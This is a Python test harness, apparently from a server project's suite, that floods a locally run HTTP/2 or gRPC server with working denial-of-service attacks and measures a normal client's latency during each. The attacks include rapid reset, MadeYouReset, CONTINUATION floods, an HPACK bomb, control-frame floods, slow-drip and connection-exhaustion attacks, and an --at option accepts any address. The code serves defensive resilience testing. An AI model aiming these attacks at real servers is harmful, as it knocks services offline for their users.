"""Attacks on a server, each measured by a well-behaved client before it and during it.

`python -m tests.lane.attacks` prints the table; `--kind aio` attacks the grpc.aio server,
names choose among the attacks.  The server has a core of its own where there are two; the
attacker has what the well-behaved client leaves of the other.
"""

from __future__ import annotations

import argparse
import os
import resource
import select
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from tests.lane.target import BATCH, DECIDE, Target, batch, decide, running
from tests.lane.wire import (
    CANCEL,
    INITIAL_WINDOW_SIZE,
    OK,
    PREFACE,
    WINDOW_MAX,
    Peer,
    call,
    connected,
    data_frames,
    frame,
    message,
    request,
)

INTERVAL_S = 0.001
RESET_ON_FORK = os.SCHED_RESET_ON_FORK
SECONDS = 2.0
CONNECTIONS = 400
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
         7: "REFUSED_STREAM", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}  # fmt: skip


@dataclass
class Seen:
    """What an attacker saw."""

    frames: int = 0
    connections: int = 0
    endings: dict[str, int] = field(default_factory=dict)

    def ended(self, how: str, count: int = 1) -> None:
        self.endings[how] = self.endings.get(how, 0) + count

    def __str__(self) -> str:
        often = sorted(self.endings.items(), key=lambda item: -item[1])
        said = ", ".join(f"{how} x {count}" for how, count in often) or "nothing"
        return f"{self.frames} sent on {self.connections} connections: {said}"


def ending(peer: Peer) -> str:
    """How the server ended a connection."""
    if not peer.goaways:
        return "closed"
    _, code, text = peer.goaways[-1]
    said = f" '{text.decode('ascii', 'replace')}'" if text else ""
    return f"GOAWAY {CODES.get(code, code)}{said}"


def until(seconds: float) -> Iterator[float]:
    """Yields until the time is over."""
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        yield left


def pushed(peer: Peer, data: bytes) -> bool:
    """Whether the server, within a while, took the octets or hung up."""
    peer.sock.settimeout(0.2)
    try:
        peer.sock.sendall(data)
    except TimeoutError:
        return False
    except OSError:
        peer.closed = True
    return True


def drained(peer: Peer) -> None:
    """Take in what has come, without waiting."""
    while not peer.closed and ready([peer], 0):
        peer.read(0.01)


def ready(peers: list[Peer], timeout: float) -> list[Peer]:
    """The connections on which something came; select() would know no descriptor over 1,023."""
    poll = select.poll()
    for peer in peers:
        poll.register(peer.sock, select.POLLIN)
    found = {number for number, _ in poll.poll(timeout * 1_000)}
    return [peer for peer in peers if peer.sock.fileno() in found]


def flood(address: str, seconds: float, chunk: Callable[[Peer], tuple[bytes, int]]) -> Seen:
    """Send chunks as fast as they go; a new connection whenever one is ended."""
    seen = Seen()
    peer: Peer | None = None
    for _ in until(seconds):
        try:
            peer = peer or opened(address, seen)
            data, count = chunk(peer)
        except (OSError, AssertionError):
            seen.ended("no connection")
            peer = None
            time.sleep(0.01)
            continue
        seen.frames += count
        if not pushed(peer, data):
            seen.ended("no longer read")
            peer.close()
            peer = None
            continue
        drained(peer)
        if peer.closed or peer.goaways:
            seen.ended(ending(peer))
            peer.close()
            peer = None
    if peer:
        seen.ended("served on" if peer.settle(1) else ending(peer))
        peer.close()
    return seen


def opened(address: str, seen: Seen, hello: bool = True, **more: object) -> Peer:
    peer = Peer(address, hello=hello, **more)  # type: ignore[arg-type]
    seen.connections += 1
    if hello:
        # Nothing of the handshake may come between the frames of an attack.
        peer.until(lambda: peer.settings_acks, 1)
    return peer


# The floods.


def rapid_reset(address: str, seconds: float) -> Seen:
    """Streams opened and reset at once (CVE-2023-44487)."""

    def chunk(peer: Peer) -> tuple[bytes, int]:
        made = b""
        for _ in range(50):
            stream = peer.stream()
            made += peer.headers(stream, request(DECIDE)).serialize()
            made += RstStreamFrame(stream, error_code=CANCEL).serialize()
        return made, 100

    return flood(address, seconds, chunk)


def reset_after_request(address: str, seconds: float) -> Seen:
    """Whole requests, each reset before its answer is read."""
    body = message(decide("home"))

    def chunk(peer: Peer) -> tuple[bytes, int]:
        made = b""
        for _ in range(30):
            stream = peer.stream()
            made += peer.headers(stream, request(DECIDE)).serialize()
            made += data_frames(stream, body)[0].serialize()
            made += RstStreamFrame(stream, error_code=CANCEL).serialize()
        return made, 90

    return flood(address, seconds, chunk)


def made_you_reset(address: str, seconds: float) -> Seen:
    """Streams that the server must reset itself (CVE-2025-8671)."""

    def chunk(peer: Peer) -> tuple[bytes, int]:
        made = b""
        for _ in range(30):
            stream = peer.stream()
            made += peer.headers(stream, request(DECIDE)).serialize()
            made += frame(8, 0, stream, bytes(4))
        return made, 60

    return flood(address, seconds, chunk)


def continuation_flood(address: str, seconds: float) -> Seen:
    """A header block that never ends (CVE-2024-24549 and its kin)."""

    def chunk(peer: Peer) -> tuple[bytes, int]:
        if peer.next_stream == 1:
            return HeadersFrame(peer.stream(), peer.block(request(DECIDE))).serialize(), 1
        field_ = b"\0\x03x-a\x40" + b"v" * 64
        return ContinuationFrame(1, field_ * 10).serialize() * 20, 20

    return flood(address, seconds, chunk)


def empty_continuations(address: str, seconds: float) -> Seen:
    """A header block of endless empty CONTINUATIONs."""

    def chunk(peer: Peer) -> tuple[bytes, int]:
        if peer.next_stream == 1:
            return HeadersFrame(peer.stream(), peer.block(request(DECIDE))).serialize(), 1
        return ContinuationFrame(1).serialize() * 200, 200

    return flood(address, seconds, chunk)


def repeated(data: bytes, count: int = 200) -> Callable[[str, float], Seen]:
    """A flood of one control frame."""
    return lambda address, seconds: flood(address, seconds, lambda _: (data * count, count))


def empty_data(address: str, seconds: float) -> Seen:
    """Endless DATA frames of no octets (CVE-2019-9518)."""

    def chunk(peer: Peer) -> tuple[bytes, int]:
        if peer.next_stream == 1:
            return peer.headers(peer.stream(), request(DECIDE)).serialize(), 1
        return DataFrame(1).serialize() * 200, 200

    return flood(address, seconds, chunk)


def large_headers(address: str, seconds: float) -> Seen:
    """Header lists of 60 KiB, each in CONTINUATIONs."""

    def chunk(peer: Peer) -> tuple[bytes, int]:
        stream = peer.stream()
        block = peer.block(request(DECIDE, [(f"x-{n}", "v" * 2_000) for n in range(30)]))
        parts = [block[at : at + 16_000] for at in range(0, len(block), 16_000)]
        made: list[HeadersFrame | ContinuationFrame] = [HeadersFrame(stream, parts[0])]
        made += [ContinuationFrame(stream, part) for part in parts[1:]]
        made[-1].flags.add("END_HEADERS")
        return b"".join(one.serialize() for one in made), len(made)

    return flood(address, seconds, chunk)


def hpack_bomb(address: str, seconds: float) -> Seen:
    """One table entry of 4 kB, named thousands of times in a block of a few kB."""

    def chunk(peer: Peer) -> tuple[bytes, int]:
        stream = peer.stream()
        entry = b"\x40\x01x\x7f" + bytes([0x80 + (3_900 - 127) % 128, (3_900 - 127) // 128])
        first = entry + b"v" * 3_900 if stream == 1 else b""
        block = peer.block(request(DECIDE)) + first + b"\xbe" * 10_000
        return HeadersFrame(stream, block, flags=("END_HEADERS", "END_STREAM")).serialize(), 1

    return flood(address, seconds, chunk)


def oversize(address: str, seconds: float) -> Seen:
    """Messages that say they have 4 GiB, and send on."""

    def chunk(peer: Peer) -> tuple[bytes, int]:
        stream = peer.stream()
        head = peer.headers(stream, request(DECIDE)).serialize()
        body = DataFrame(stream, b"\0\xff\xff\xff\xff" + bytes(10_000)).serialize()
        return head + body, 2

    return flood(address, seconds, chunk)


def wrong_calls(address: str, seconds: float) -> Seen:
    """Right frames of wrong calls: paths, bodies and types of all sorts."""

    def chunk(peer: Peer) -> tuple[bytes, int]:
        made = b""
        for body in (b"", b"\xff" * 30, message(b"\xff" * 9), message(decide("x"))):
            for path in ("/", DECIDE, "/" + "a" * 300):
                stream = peer.stream()
                made += peer.headers(stream, request(path)).serialize()
                made += data_frames(stream, body)[0].serialize()
        return made, 24

    return flood(address, seconds, chunk)


def goaways(address: str, seconds: float) -> Seen:
    """GOAWAY with each call, and calls after it."""
    body = message(decide("home"))

    def chunk(peer: Peer) -> tuple[bytes, int]:
        stream = peer.stream()
        made = GoAwayFrame(0, last_stream_id=0, additional_data=b"x" * 1_000).serialize()
        made += peer.headers(stream, request(DECIDE)).serialize()
        return made + data_frames(stream, body)[0].serialize(), 3

    return flood(address, seconds, chunk)


def window_updates(address: str, seconds: float) -> Seen:
    """WINDOW_UPDATE of one octet, without end (CVE-2019-9514's kin)."""

    def chunk(_: Peer) -> tuple[bytes, int]:
        return WindowUpdateFrame(0, window_increment=1).serialize() * 200, 200

    return flood(address, seconds, chunk)


# Starvation: many connections, and slow ones.


def held(peers: list[Peer], seconds: float, seen: Seen) -> Seen:
    """Keep connections as they are, and count how they ended."""
    for left in until(seconds):
        alive = [peer for peer in peers if not peer.closed]
        if not alive:
            break
        for peer in ready(alive, min(left, 0.1)):
            peer.read(0.01)
    for peer in peers:
        seen.ended(ending(peer) if peer.closed or peer.goaways else "held")
        peer.close()
    return seen


def many(address: str, seen: Seen, count: int, **more: object) -> list[Peer]:
    """As many connections as the server lets one peer have."""
    peers = []
    for _ in range(count):
        try:
            peers.append(opened(address, seen, **more))
        except OSError:
            seen.ended("refused")
    return peers


def idle_connections(address: str, seconds: float) -> Seen:
    """Many connections that say nothing after the preface."""
    seen = Seen()
    return held(many(address, seen, CONNECTIONS), seconds, seen)


def silent_connections(address: str, seconds: float) -> Seen:
    """Many connections that say nothing at all."""
    seen = Seen()
    return held(many(address, seen, CONNECTIONS, hello=False), seconds, seen)


def many_addresses(address: str, seconds: float) -> Seen:
    """Idle connections from 100 loopback addresses, past what is allowed in all."""
    seen, peers = Seen(), []
    for number in range(CONNECTIONS * 3):
        try:
            peers.append(opened(address, seen, source=f"127.0.1.{1 + number % 100}"))
        except OSError:
            seen.ended("refused")
    return held(peers, seconds, seen)


def starvation(address: str, seconds: float) -> Seen:
    """Large answers asked for on streams whose windows stay closed."""
    seen, peers = Seen(), []
    body = message(batch(150, explain=True))
    for _ in range(8):
        peer = opened(address, seen, settings={INITIAL_WINDOW_SIZE: 0})
        for _ in range(90):
            stream = peer.stream()
            head = peer.headers(stream, request(BATCH))
            if not pushed(peer, head.serialize() + data_frames(stream, body)[0].serialize()):
                seen.ended("no longer read")
                break
            seen.frames += 2
            drained(peer)
            if peer.closed:
                break
        peers.append(peer)
    return held(peers, seconds, seen)


def no_reading(address: str, seconds: float) -> Seen:
    """Large answers asked for with open windows, and never read."""
    seen, peers = Seen(), []
    body = message(batch(150, explain=True))
    for _ in range(4):
        peer = opened(address, seen, settings={INITIAL_WINDOW_SIZE: WINDOW_MAX})
        wide = WindowUpdateFrame(0, window_increment=WINDOW_MAX - 65_535)
        pushed(peer, wide.serialize())
        for _ in range(90):
            stream = peer.stream()
            head = peer.headers(stream, request(BATCH))
            if not pushed(peer, head.serialize() + data_frames(stream, body)[0].serialize()):
                seen.ended("no longer read")
                break
            seen.frames += 2
        peers.append(peer)
    time.sleep(seconds / 2)
    return held(peers, seconds / 2, seen)


def dripped(address: str, seconds: float, whole: Callable[[Peer], bytes], hello: bool) -> Seen:
    """Many connections on which octets come one at a time."""
    seen = Seen()
    peers = many(address, seen, 50, hello=hello)
    sending = [(peer, whole(peer)) for peer in peers]
    for at, _ in enumerate(until(seconds)):
        for peer, data in sending:
            if not peer.closed:
                pushed(peer, data[at : at + 1])
                seen.frames += 1
                drained(peer)
        time.sleep(0.05)
    return held(peers, 0.1, seen)


def slow_preface(address: str, seconds: float) -> Seen:
    """The preface, octet by octet."""
    return dripped(address, seconds, lambda _: PREFACE * 10, hello=False)


def slow_headers(address: str, seconds: float) -> Seen:
    """A HEADERS frame, octet by octet."""
    return dripped(
        address, seconds, lambda p: p.headers(1, request(DECIDE)).serialize() * 10, hello=True
    )


def slow_body(address: str, seconds: float) -> Seen:
    """A body, octet by octet, within a DATA frame."""

    def whole(peer: Peer) -> bytes:
        pushed(peer, peer.headers(1, request(DECIDE)).serialize())
        return DataFrame(1, message(bytes(10_000))).serialize()

    return dripped(address, seconds, whole, hello=True)


def open_streams(address: str, seconds: float) -> Seen:
    """Streams opened up to the bound and never ended, on many connections."""
    seen = Seen()
    peers = many(address, seen, 50)
    for peer in peers:
        for _ in range(90):
            pushed(peer, peer.headers(peer.stream(), request(DECIDE)).serialize())
            seen.frames += 1
    return held(peers, seconds, seen)


def connect_and_close(address: str, seconds: float) -> Seen:
    """Connections opened and closed, or reset, as fast as they go."""
    seen = Seen()
    for _ in until(seconds):
        try:
            sock = connected(address)
        except OSError:
            seen.ended("refused")
            continue
        seen.connections += 1
        if seen.connections % 2 and sock.family == socket.AF_INET:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\1\0\0\0\0\0\0\0")
        with suppress(OSError):
            sock.sendall(PREFACE)
        seen.frames += 1
        sock.close()
    return seen


def half_open(address: str, seconds: float) -> Seen:
    """Connections whose client closed its half and waits."""
    seen = Seen()
    peers = many(address, seen, CONNECTIONS // 2)
    for peer in peers:
        with suppress(OSError):
            peer.sock.shutdown(socket.SHUT_WR)
    return held(peers, seconds, seen)


def not_http2(address: str, seconds: float) -> Seen:
    """Garbage, HTTP/1.1 and TLS, on new connections."""
    seen = Seen()
    texts = (b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\0\xa5" + bytes(200), os.urandom(500))
    for _ in until(seconds):
        try:
            peer = opened(address, seen, hello=False)
        except OSError:
            seen.ended("refused")
            continue
        seen.frames += 1
        pushed(peer, texts[seen.connections % 3])
        peer.until(lambda: False, 0.2)
        seen.ended(ending(peer) if peer.closed or peer.goaways else "held")
        peer.close()
    return seen


SETTING = SettingsFrame(0, settings={INITIAL_WINDOW_SIZE: 65_535}).serialize()
ATTACKS: dict[str, Callable[[str, float], Seen]] = {
    "rapid reset": rapid_reset,
    "reset after the request": reset_after_request,
    "resets the server must send": made_you_reset,
    "CONTINUATION flood": continuation_flood,
    "empty CONTINUATION flood": empty_continuations,
    "SETTINGS flood": repeated(SETTING),
    "PING flood": repeated(PingFrame(0, opaque_data=bytes(8)).serialize()),
    "empty DATA flood": empty_data,
    "PRIORITY flood": repeated(PriorityFrame(1, stream_weight=1, depends_on=3).serialize()),
    "WINDOW_UPDATE flood": window_updates,
    "unknown frame flood": repeated(frame(0xEE, 0, 0, bytes(8))),
    "large header lists": large_headers,
    "HPACK bomb": hpack_bomb,
    "oversize messages": oversize,
    "wrong calls": wrong_calls,
    "GOAWAY with every call": goaways,
    "closed windows": starvation,
    "answers not read": no_reading,
    "slow preface": slow_preface,
    "slow headers": slow_headers,
    "slow bodies": slow_body,
    "streams left open": open_streams,
    "idle connections": idle_connections,
    "silent connections": silent_connections,
    "idle from 100 addresses": many_addresses,
    "half-closed connections": half_open,
    "connect and close": connect_and_close,
    "not HTTP/2": not_http2,
}


# The well-behaved client.


def well_behaved(address: str) -> Peer:
    """A connection with room for all answers of a measurement."""
    peer = Peer(address)
    peer.send(WindowUpdateFrame(0, window_increment=WINDOW_MAX - 65_535))
    assert peer.settle()
    return peer


def p99_us(address: str, seconds: float) -> tuple[int, int]:
    """The 99th percentile of calls due every millisecond, from when each was due, and failures."""
    body, taken, failed = decide("home"), [], 0
    peer = well_behaved(address)
    due = time.perf_counter()
    end = due + seconds
    while due < end:
        if (wait := due - time.perf_counter()) > 0:
            time.sleep(wait)
        answer = call(peer, DECIDE, body, timeout=2)
        taken.append(time.perf_counter() - due)
        if answer.status != OK:
            failed += 1
            peer.close()
            peer = well_behaved(address)
        # A client that is behind does not make up for it with a burst.
        due = max(due + INTERVAL_S, time.perf_counter() - INTERVAL_S)
    peer.close()
    taken.sort()
    return round(taken[int(len(taken) * 0.99)] * 1e6), failed


@dataclass
class Row:
    """One line of the table."""

    attack: str
    seen: str
    before_us: int
    during_us: int
    failed: int


def attack(target: Target, name: str, seconds: float) -> Row:
    """Measure, attack from another process, measure meanwhile."""
    before, _ = p99_us(target.address, seconds / 2)
    command = [sys.executable, "-m", "tests.lane.attacks", "--at", target.address]
    command += ["--seconds", str(seconds + 0.5), name]
    attacker = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
    try:
        assert attacker.stdout is not None
        attacker.stdout.readline()
        during, failed = p99_us(target.address, seconds)
        seen, _ = attacker.communicate(timeout=60)
    finally:
        attacker.kill()
        attacker.wait()
    return Row(name, seen.strip(), before, during, failed)


def pinned(target: Target) -> None:
    """Keep what else runs on the machine out of the measurement, as far as we may.

    The server gets the first core and everyone else the others, where there are more; the server
    and this client, not the attacker, get real-time priority.
    """
    cores = sorted(os.sched_getaffinity(0))
    tasks = [int(task) for task in os.listdir(f"/proc/{target.pid}/task")]
    for task in tasks if len(cores) > 1 else ():
        os.sched_setaffinity(task, cores[:1])
    os.sched_setaffinity(0, cores[1:] or cores)
    with suppress(PermissionError):
        for task in (0, *tasks):
            os.sched_setscheduler(task, os.SCHED_FIFO | RESET_ON_FORK, os.sched_param(1))


def say(line: str) -> None:
    sys.stdout.write(line + "\n")
    sys.stdout.flush()


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--kind", default="lane")
    parser.add_argument("--at", default="", help="attack this address, measure nothing")
    parser.add_argument("--seconds", type=float, default=SECONDS)
    parser.add_argument("names", nargs="*", default=list(ATTACKS))
    wanted = parser.parse_args()
    if unknown := set(wanted.names) - set(ATTACKS):
        parser.error(f"{', '.join(sorted(unknown))}, allowed: {', '.join(ATTACKS)}")
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    if wanted.at:
        say("started")
        say(str(ATTACKS[wanted.names[0]](wanted.at, wanted.seconds)))
        return
    say("| attack | what the attacker saw | p99 before | p99 during | failed |")
    say("|---|---|---|---|---|")
    with running(wanted.kind) as target:
        pinned(target)
        for name in wanted.names:
            row = attack(target, name, wanted.seconds)
            times = f"{row.before_us} us | {row.during_us} us"
            say(f"| {row.attack} | {row.seen} | {times} | {row.failed} |")
            target.must_serve()


if __name__ == "__main__":
    main()
